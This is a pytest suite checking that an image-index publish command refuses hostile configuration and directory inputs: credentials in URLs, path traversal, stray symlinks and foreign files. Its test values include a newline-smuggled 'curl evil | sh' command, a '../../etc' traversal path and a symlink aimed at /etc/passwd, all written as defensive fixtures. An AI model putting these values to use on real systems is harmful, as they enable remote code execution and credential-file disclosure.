"""Hostile-input suite, the share of `imagebot index publish` (issue 10's rules, issue 15's sink).

The destination (`[index] publish` in imagebot.toml) and OUT are the inputs: a destination with
userinfo, `..`, another scheme or a control character is refused when imagebot.toml is read
(exit 3, the password never echoed); an OUT that is a symbolic link, holds one, holds files
index build never writes, or is not an index imagebot wrote is refused (exit 13); so are a
destination that overlaps OUT, is a symbolic link, or holds objects that are no part of an
index. Every row: the exit code, one `error:` line, no traceback, every file byte-identical.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from publish_fixtures import write_index

from tests.unit.conftest import CONFIG, Hostile, Project, Result, assert_refused

Run = Callable[..., Result]
Setup = Callable[[Project, pytest.MonkeyPatch], None]
SECRET = "s3cr3t-pw"


def destination(value: str, *, index: bool = True) -> Setup:
    """imagebot.toml with `[index] publish = value` (a TOML basic string), and a built OUT."""

    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        text = CONFIG.replace("request_url = ", f"publish = {json.dumps(value)}\nrequest_url = ")
        project.write("imagebot.toml", text)
        monkeypatch.chdir(project.root)  # OUT and the rows' paths are relative to the project
        if index:
            write_index(project.path("out"), {"six": ["1.17.0"]})

    return setup


def then(*steps: Setup) -> Setup:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        for step in steps:
            step(project, monkeypatch)

    return setup


def out_is_a_symlink(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    write_index(project.path("real-out"), {"six": ["1.17.0"]})
    project.path("out").symlink_to(project.path("real-out"))


def out_holds(relative: str, data: bytes = b"x") -> Setup:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        project.write(f"out/{relative}", data.decode())

    return setup


def out_links(relative: str, target: str) -> Setup:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        project.path(f"out/{relative}").symlink_to(target)

    return setup


def foreign_manifest(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.path("out/imagebot-index.json").write_text('{"generated_by": "someone else"}')


def no_manifest(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.path("out/imagebot-index.json").unlink()


def a_directory_of_documents(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.write("not-an-index/report.txt", "quarterly figures")


def dest_is_a_symlink(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.path("elsewhere").mkdir()
    project.path("site").symlink_to(project.path("elsewhere"))


def dest_holds_other_files(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.write("site/docs/report.txt", "keep me")


def dest_dir_links_out(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    project.path("site").mkdir()
    project.path("site/files").symlink_to("/tmp")


PUBLISH = ("index", "publish", "out")

CASES = [
    Hostile(
        "gs-userinfo",
        destination(f"gs://publisher:{SECRET}@stat-vetted-pypi/pypi"),
        PUBLISH,
        3,
        "user:password@",
    ),
    Hostile(
        "gs-port", destination("gs://stat-vetted-pypi:443/pypi"), PUBLISH, 3, "index.publish"
    ),
    Hostile("gs-dotdot", destination("gs://stat-vetted-pypi/../other"), PUBLISH, 3, "'..'"),
    Hostile("gs-empty-segment", destination("gs://stat-vetted-pypi/a//b"), PUBLISH, 3, "''"),
    Hostile("gs-upper-bucket", destination("gs://Vetted/pypi"), PUBLISH, 3, "bucket name"),
    Hostile(
        "other-scheme-with-userinfo",
        destination(f"s3://u:{SECRET}@bucket/pypi"),
        PUBLISH,
        3,
        "s3:// is not a destination",
    ),
    Hostile("local-dotdot", destination("../outside"), PUBLISH, 3, ".. segments"),
    Hostile("local-dotdot-inside", destination("site/../../etc"), PUBLISH, 3, ".. segments"),
    Hostile("newline", destination("site\nRUN curl evil | sh"), PUBLISH, 3, "one line"),
    Hostile("not-set", destination("", index=True), PUBLISH, 3, "index.publish"),
    Hostile(
        "out-symlink",
        then(destination("site", index=False), out_is_a_symlink),
        PUBLISH,
        13,
        "symbolic link",
    ),
    Hostile(
        "out-missing", destination("site", index=False), PUBLISH, 13, "not a built index"
    ),
    Hostile(
        "out-not-an-index",
        then(destination("site", index=False), a_directory_of_documents),
        ("index", "publish", "not-an-index"),
        13,
        "not an imagebot index",
    ),
    Hostile(
        "out-foreign-manifest",
        then(destination("site"), foreign_manifest),
        PUBLISH,
        13,
        "not an imagebot index",
    ),
    Hostile(
        "out-without-manifest",
        then(destination("site"), no_manifest),
        PUBLISH,
        13,
        "imagebot-index.json",
    ),
    Hostile(
        "out-holds-a-link",
        then(destination("site"), out_links("files/evil-1.0-py3-none-any.whl", "/etc/passwd")),
        PUBLISH,
        13,
        "symbolic link",
    ),
    Hostile(
        "out-holds-other-files",
        then(destination("site"), out_holds("simple/six/run.sh")),
        PUBLISH,
        13,
        "not something imagebot index build writes",
    ),
    Hostile("dest-is-out", destination("out"), PUBLISH, 13, "overlap"),
    Hostile("dest-inside-out", destination("out/site"), PUBLISH, 13, "overlap"),
    Hostile(
        "dest-symlink", then(destination("site"), dest_is_a_symlink), PUBLISH, 13, "symbolic link"
    ),
    Hostile(
        "dest-holds-other-files",
        then(destination("site"), dest_holds_other_files),
        PUBLISH,
        13,
        "no part of an index",
    ),
    Hostile(
        "dest-subdir-symlink",
        then(destination("site"), dest_dir_links_out),
        PUBLISH,
        13,
        "symbolic link",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_hostile_publish_input_is_refused(
    case: Hostile, project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
) -> None:
    result = assert_refused(case, project, monkeypatch, run_cli)
    assert SECRET not in result.err + result.out


def test_dry_run_and_publish_through_the_cli(
    project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
) -> None:
    destination("site")(project, monkeypatch)
    dry = run_cli("--config", project.config, "index", "publish", "out", "--dry-run", "--json")
    assert dry.code == 0, dry.err
    assert "would publish" in dry.err
    assert not project.path("site").exists()
    document = json.loads(dry.out)
    assert document["dry_run"] is True and document["index_changes"]["versions_added"] == [
        "six==1.17.0"
    ]
    done = run_cli("--config", project.config, "index", "publish", "out")
    assert done.code == 0, done.err
    assert (project.path("site") / "imagebot-index.json").is_file()
    again = run_cli("--config", project.config, "index", "publish", "out", "--json")
    assert json.loads(again.out)["added"] == []
    assert "up to date" in again.err


def test_a_relative_destination_is_relative_to_the_repository(
    project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run, tmp_path: Path
) -> None:
    destination("site")(project, monkeypatch)
    elsewhere = tmp_path / "cwd"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    result = run_cli("--config", project.config, "index", "publish", project.path("out"))
    assert result.code == 0, result.err
    assert (project.path("site") / "imagebot-index.json").is_file()
    assert not (elsewhere / "site").exists()
